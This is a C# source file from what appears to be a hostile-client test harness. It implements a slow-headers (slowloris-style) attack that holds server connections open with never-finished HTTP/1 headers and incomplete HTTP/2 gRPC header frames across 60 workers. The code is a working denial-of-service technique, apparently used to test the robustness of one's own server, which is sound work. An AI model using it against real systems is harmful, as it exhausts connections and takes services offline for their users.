using HostileClient.Attacker;
using HostileClient.Wire;

namespace HostileClient.Attacks.Connections;

/// <summary>Headers that never end: a byte now and then.</summary>
internal sealed class SlowHeaders : IAttack
{
    private static readonly TimeSpan Drip = TimeSpan.FromSeconds(1);

    public string Name => "slow headers";

    public int Workers => 60;

    public TimeSpan Pause => TimeSpan.FromMilliseconds(500);

    public async Task<string> OnceAsync(Turn turn, CancellationToken cancellation)
    {
        var isGrpc = turn.Worker % 2 == 0;
        using var connection = await RawConnection.OpenAsync(isGrpc ? turn.Server.Grpc : turn.Server.Http, cancellation);
        if (isGrpc)
        {
            // A block of headers that is to go on in the next frame, which does not come.
            await connection.SendAsync(Http2.Preface, cancellation);
            await connection.SendAsync(Http2.Frame(Http2.Headers, 0, 1, Http2.GrpcHeaders(Methods.Publish, turn.Role())), cancellation);
            return await connection.ReadToEndAsync(cancellation);
        }

        await connection.SendAsync(Http1.Head("POST", "/v1/events/open.a/messages", turn.Role()) + "X-Slow: ", cancellation);
        while (true)
        {
            await Task.Delay(Drip, TimeProvider.System, cancellation);
            await connection.SendAsync("a", cancellation);
        }
    }
}
